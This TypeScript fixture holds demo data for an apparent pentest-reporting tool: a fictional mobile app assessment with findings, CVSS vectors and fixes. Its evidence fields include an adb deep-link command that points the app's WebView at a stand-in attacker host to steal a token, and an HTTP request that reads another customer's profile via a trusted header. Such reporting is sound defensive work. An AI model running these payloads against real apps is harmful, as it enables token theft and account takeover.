import type { DemoEngagement } from './demo-engagement.ts';

const android = { host: 'com.acme.shop (Android 5.2.0)' };
const ios = { host: 'com.acme.shop (iOS 5.2.0)' };
const api = { host: 'mobile-api.acme.example', ip: '192.0.2.15', port: 443 };

export const acmeMobile: DemoEngagement = {
  title: 'Mobile apps for Android and iOS',
  type: 'Mobile App Vulnerability Assessment',
  status: 'Completed',
  startsDaysAgo: 78,
  lastsDays: 9,
  summary:
    'We assessed both apps and their API on stock and rooted or jailbroken devices. **The refresh token can be extracted from an Android backup**, and a deep link loads untrusted pages with access to the native bridge. The iOS app stores its secrets securely.',
  methodology: 'OWASP MASVS 2.1 and the corresponding MASTG tests, static and dynamic analysis.',
  standards: ['MASTG'],
  scope: [
    { kind: 'Android app', value: 'com.acme.shop 5.2.0' },
    { kind: 'iOS app', value: 'com.acme.shop 5.2.0' },
    { kind: 'API', value: 'https://mobile-api.acme.example' },
  ],
  team: [
    { name: 'Tomas Novotny', role: 'Lead' },
    { name: 'Priya Raman', role: 'Tester' },
  ],
  findings: [
    {
      title: 'Deep link exposes the JavaScript bridge to untrusted pages',
      vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:H/A:N',
      status: 'Retest',
      cwe: 939,
      tags: ['webview', 'masvs-platform'],
      description:
        'The deep link `acmeshop://open?url=` loads the supplied URL in the WebView that exposes the JavaScript bridge `Acme`. The check only tests whether the URL contains `acme.example`.',
      impact:
        "A link in an email or a QR code is enough to steal the customer's access token and place orders on their behalf.",
      recommendation: 'Match the host exactly, allow only HTTPS, and open all other URLs in the external browser.',
      evidence:
        '```text\nadb shell am start -d "acmeshop://open?url=https://evil.example/?acme.example"\n> Acme.getToken()\n"eyJhbGciOi…"\n```',
      references: ['https://mas.owasp.org/MASTG/tests/android/MASVS-PLATFORM/MASTG-TEST-0031/'],
      retest: {
        by: 'user@acme.example',
        daysAgo: 6,
        message: 'Version 3.8.1 matches the host exactly.',
        question: 'The store still delivers 3.8.0 to our test devices. Could you send us the 3.8.1 build?',
      },
      assets: [{ ...android, location: 'DeepLinkActivity' }],
    },
    {
      title: 'Refresh token included in Android backups',
      vector: 'CVSS:3.1/AV:P/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N',
      status: 'Fixed',
      cwe: 530,
      tags: ['storage', 'masvs-storage'],
      description: 'The refresh token is stored in shared preferences, and the manifest allows backups.',
      impact:
        "Anyone with brief access to the unlocked phone or to the cloud backup can take over the customer's session.",
      recommendation: 'Encrypt the token with a key from the Android Keystore and exclude it from backups.',
      evidence: '`shared_prefs/session.xml: <string name="refresh">…</string>`',
      assets: [{ ...android, location: 'shared_prefs/session.xml' }],
    },
    {
      title: 'Unrestricted API key for the map service',
      vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:L',
      status: 'Fixed',
      cwe: 798,
      tags: ['secrets'],
      description: 'The API key embedded in both apps is not restricted and can be used from anywhere.',
      impact: 'Third-party use is billed to Acme and can exhaust the quota of the store finder.',
      recommendation: 'Restrict the key to the app signatures and set a daily quota.',
      evidence: '`res/values/strings.xml: AIza…mQ`, accepted from an external address.',
      assets: [
        { ...android, location: 'res/values/strings.xml' },
        { ...ios, location: 'Info.plist' },
      ],
    },
    {
      title: 'X-Customer header grants access to other customer profiles',
      vector: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:L/VA:N/SC:N/SI:N/SA:N',
      status: 'Open',
      cwe: 639,
      tags: ['access-control', 'owasp-api1'],
      description:
        'The mobile API trusts the customer number in the `X-Customer` header instead of the identity in the token.',
      impact:
        'Any customer can read the name, address and loyalty points of any other customer, and spend their points.',
      recommendation: 'Derive the customer from the token only, and strip the header at the gateway.',
      evidence:
        '```http\nGET /profile HTTP/1.1\nAuthorization: Bearer <token of A>\nX-Customer: 58213\n\nHTTP/1.1 200 OK\n{"customer":58213,"points":1240}\n```',
      assets: [
        { ...api, location: '/profile' },
        { ...api, location: '/points/spend' },
      ],
    },
    {
      title: 'The apps do not pin certificates',
      vector: 'CVSS:3.1/AV:A/AC:H/PR:N/UI:R/S:U/C:L/I:L/A:N',
      status: 'Acknowledged',
      comment:
        'We decided against pinning: a missed rotation would lock customers out. We monitor Certificate Transparency logs instead.',
      cwe: 295,
      tags: ['network', 'masvs-network'],
      description: 'The apps trust every certificate authority in the device trust store.',
      impact: 'Traffic can be intercepted on a device with a third-party root certificate.',
      recommendation: 'Pin the public key of the intermediate certificate, with a backup pin, for the API host only.',
      evidence: 'All requests could be intercepted by a proxy whose certificate was installed on the device.',
      assets: [android, ios],
    },
    {
      title: 'App switcher snapshots contain personal data',
      vector: 'CVSS:3.1/AV:P/AC:L/PR:N/UI:N/S:U/C:L/I:N/A:N',
      status: 'Fixed',
      cwe: 200,
      tags: ['masvs-platform'],
      description: 'The snapshot of the last screen shows addresses and the last digits of payment cards.',
      impact: 'Anyone with physical access to the unlocked phone can read the data.',
      recommendation: 'Set `FLAG_SECURE` on Android, and obscure the window on iOS when the app enters the background.',
      evidence: 'Snapshot in `Library/SplashBoard/Snapshots`.',
      assets: [android, ios],
    },
    {
      title: 'No root or jailbreak detection',
      severity: 'info',
      status: 'Acknowledged',
      comment: 'Risk accepted: the app holds no data beyond the customer account itself.',
      cwe: 693,
      tags: ['masvs-resilience'],
      description: 'The app does not detect rooted, jailbroken or emulated devices.',
      impact: 'Reverse engineering is easier; there is no direct impact.',
      recommendation: 'Consider showing a warning; do not block the app.',
      evidence: 'All tests were performed with Frida attached.',
      assets: [android, ios],
    },
  ],
};
